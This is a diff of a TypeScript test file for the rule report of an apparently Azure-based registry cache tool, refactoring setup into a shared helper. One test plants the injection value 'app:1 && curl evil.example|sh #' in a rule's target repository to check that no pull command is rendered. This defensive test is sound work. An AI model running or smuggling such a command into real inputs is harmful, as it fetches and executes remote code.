@@ -1,22 +1,24 @@
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { cacheRuleArmId } from '../../../../src/domain/armId.ts';
 import { roles } from '../../../../src/domain/roles.ts';
 import { readRuleReport, type RuleReport } from '../../../../src/provisioning/ruleReport/readRuleReport.ts';
 import { ruleReportMarkdown } from '../../../../src/provisioning/ruleReport/ruleReportMarkdown.ts';
 import { mapping } from '../links.ts';
+import { inOneWorld } from '../savedState.ts';
 import { startWorld, type World } from '../world.ts';
 
-let world: World | undefined;
-afterEach(async () => {
-  await world?.close();
-  world = undefined;
-});
-
-async function startWithRule(): Promise<{ world: World; id: string }> {
+let world: World;
+let id: string;
+inOneWorld(async () => {
   world = await startWorld({ retryAfterSeconds: 0, operationMs: 5 });
   await world.setUp();
-  return { world, id: cacheRuleArmId(world.link().downstream.id, 'MyRule') };
-}
+  id = cacheRuleArmId(world.link().downstream.id, 'MyRule');
+  return world;
+});
+
+/** By a client that remembers nothing of the test before. */
+const read = (ruleId = id, options: Parameters<typeof readRuleReport>[2] = {}): Promise<RuleReport> =>
+  readRuleReport(world.as('dev'), ruleId, options);
 
 function value<K extends 'mapping' | 'access' | 'identity' | 'cached' | 'json'>(
   report: RuleReport,
@@ -29,9 +31,8 @@ function value<K extends 'mapping' | 'access' | 'identity' | 'cached' | 'json'>(
 
 describe('the report of a rule', () => {
   it('tells the mapping, the access and its reason, the identity, and fills in part by part', async () => {
-    const { world, id } = await startWithRule();
     const seen: RuleReport[] = [];
-    const report = await readRuleReport(world.azure, id, { onPart: (partial) => seen.push(partial) });
+    const report = await read(id, { onPart: (partial) => seen.push(partial) });
     expect(seen).toHaveLength(6);
     expect(seen[0]?.mapping.state).toBe('loading');
     expect(value(report, 'mapping')).toMatchObject({ rule: { name: 'MyRule' } });
@@ -64,27 +65,24 @@ describe('the report of a rule', () => {
   });
 
   it('has no pull command for a target that is no repository name', async () => {
-    const { world, id } = await startWithRule();
     const rule = [...world.sandbox.state.resources.values()].find((resource) => resource.id === id);
     if (rule) rule.properties['targetRepository'] = 'app:1 && curl evil.example|sh #';
-    const report = await readRuleReport(world.azure, id);
+    const report = await read();
     expect(ruleReportMarkdown(report, 'docker')).not.toContain('docker pull');
   });
 
   it('says that the identity may not read, was made anew, and who else uses it', async () => {
-    const { world, id } = await startWithRule();
     const { authentication: identity } = world.link();
     await world.setUp(world.link({ mappings: [mapping('SecondRule', 'charts/shop')] }));
     await world.azure.identities.delete(identity.identityId);
     await world.azure.identities.create(identity.identityId, 'eastus');
-    const report = await readRuleReport(world.azure, id);
+    const report = await read();
     expect(value(report, 'access')).toMatchObject({ sufficient: false });
     expect(value(report, 'identity')).toMatchObject({ recreated: true, usage: { rules: [{ name: 'SecondRule' }] } });
     expect(ruleReportMarkdown(report, 'docker')).toContain('SecondRule');
   });
 
   it('shows cached tags with platforms, and which are stale or gone upstream', async () => {
-    const { world, id } = await startWithRule();
     const content = world.azure.registry(await world.registry('myregistry'));
     for (const tag of ['1.0', '1.1', 'latest']) await content.pull('myapp', tag);
     await expect.poll(async () => (await content.tags('myapp')).length).toBe(3);
@@ -103,7 +101,7 @@ describe('the report of a rule', () => {
       principalId: world.principal('dev'),
       principalType: 'User',
     });
-    const report = await readRuleReport(world.azure, id);
+    const report = await read();
     const [repository] = value(report, 'cached').repositories;
     const states = Object.fromEntries(repository?.tags.map((tag) => [tag.tag, tag.upstreamState]) ?? []);
     expect(states).toEqual({ '1.0': 'stale', '1.1': 'same', latest: 'gone' });
@@ -112,11 +110,10 @@ describe('the report of a rule', () => {
   });
 
   it('says why the upstream digests are not known when the account may not read there', async () => {
-    const { world, id } = await startWithRule();
     const content = world.azure.registry(await world.registry('myregistry'));
     await content.pull('myapp', '1.0');
     await expect.poll(async () => (await content.tags('myapp')).length).toBe(1);
-    const report = await readRuleReport(world.azure, id);
+    const report = await read();
     const [repository] = value(report, 'cached').repositories;
     expect(repository?.tags[0]?.upstreamState).toBe('unknown');
     expect(repository?.upstreamReason).toMatch(/could not be read/);
@@ -128,10 +125,9 @@ describe('the report of a rule', () => {
     ['cached', '^(GET|HEAD) localhost:.*/acr/v1/', undefined],
     ['mapping', '^GET .*registries/myregistry\\?', undefined],
   ] as const)('a part that fails says why, the others are there (%s)', async (name, match, nth) => {
-    const { world, id } = await startWithRule();
     const report = await world.withFaults(
       [{ match, status: 403, message: 'Not for you.', ...(nth ? { nth } : {}) }],
-      () => readRuleReport(world.azure, id),
+      () => read(),
     );
     const failed = (['mapping', 'access', 'identity', 'cached', 'json'] as const).filter(
       (part) => report[part].state === 'failed',
@@ -142,15 +138,13 @@ describe('the report of a rule', () => {
   });
 
   it('of a rule that does not exist fails in every part', async () => {
-    const { world } = await startWithRule();
-    const report = await readRuleReport(world.azure, cacheRuleArmId(world.link().downstream.id, 'NoSuchRule'));
+    const report = await read(cacheRuleArmId(world.link().downstream.id, 'NoSuchRule'));
     const { mapping, access, identity, cached, json } = report;
     expect([mapping, access, identity, cached, json].map(({ state }) => state)).toEqual(Array(5).fill('failed'));
   });
 
   it('is left by a cancel', async () => {
-    const { world, id } = await startWithRule();
-    await expect(readRuleReport(world.azure, id, { signal: AbortSignal.abort() })).rejects.toMatchObject({
+    await expect(read(id, { signal: AbortSignal.abort() })).rejects.toMatchObject({
       kind: 'cancelled',
     });
   });
